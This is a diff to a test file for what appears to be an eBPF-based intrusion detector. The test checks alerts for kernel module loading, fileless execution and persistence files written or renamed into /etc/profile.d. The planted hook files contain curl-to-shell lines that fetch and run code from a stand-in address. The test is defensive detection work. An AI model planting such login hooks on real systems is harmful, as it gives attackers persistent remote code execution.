@@ -123,14 +123,17 @@ def test_the_guard_denies_what_detect_kills_for(tmp_path, tmpfs, mode):
 
 def test_a_module_load_a_fileless_exec_and_a_profile_hook_there(tmp_path):
     """The VM kernels have modules (the host has none: no init_module tracepoints there); the
-    guest's /etc takes writes (they stay in the guest): a login hook planted in /etc/profile.d
-    (the built-in rule switched on)."""
+    guest's /etc takes writes (they stay in the guest): a login hook planted in /etc/profile.d,
+    written there and written elsewhere and renamed in (the built-in rule switched on)."""
     hook = Path("/etc/profile.d/ebpfkit-test.sh")
+    staged, moved = Path("/etc/ebpfkit-staged.sh"), Path("/etc/profile.d/ebpfkit-moved.sh")
+    staged.write_text("curl -s http://192.0.2.1/y | sh\n")
     on = tmp_path / "on.yaml"
     on.write_text("- rule: File written where programs persist\n  enabled: true\n")
     with detect.open(rules=(str(on),)) as session:
         assert session.missing == []
         hook.write_text("curl -s http://192.0.2.1/x | sh\n")
+        os.rename(staged, moved)  # written elsewhere, renamed in
         load = subprocess.run([sys.executable, "-c", "import ctypes; "
                                "print(ctypes.CDLL(None, use_errno=True).syscall(313, -1, b'', 0))"],  # finit_module
                               capture_output=True, text=True, timeout=60)
@@ -139,10 +142,12 @@ def test_a_module_load_a_fileless_exec_and_a_profile_hook_there(tmp_path):
                                    "os.execv(f'/proc/self/fd/{fd}', ['payload'])"], timeout=60)
         alerts = alerts_within(session, 1.5)
     hook.unlink()
+    moved.unlink()
     assert load.stdout.strip() == "-1" and fileless.returncode == 0
     wanted = ("Kernel module loaded directly", "Fileless execution", "File written where programs persist")
     rules = sorted(a.rule for a in alerts if a.rule in wanted)
-    assert rules == ["File written where programs persist", "Fileless execution",
-                     "Kernel module loaded directly"], alerts
-    planted = next(a for a in alerts if a.rule == "File written where programs persist")
-    assert planted.event["fd.name"] == str(hook) and planted.pid == os.getpid()
+    assert rules == ["File written where programs persist", "File written where programs persist",
+                     "Fileless execution", "Kernel module loaded directly"], alerts
+    planted = [a for a in alerts if a.rule == "File written where programs persist"]
+    assert [(a.event["fd.name"], a.event["evt.type"].startswith("rename"), a.pid) for a in planted] == [
+        (str(hook), False, os.getpid()), (str(moved), True, os.getpid())]
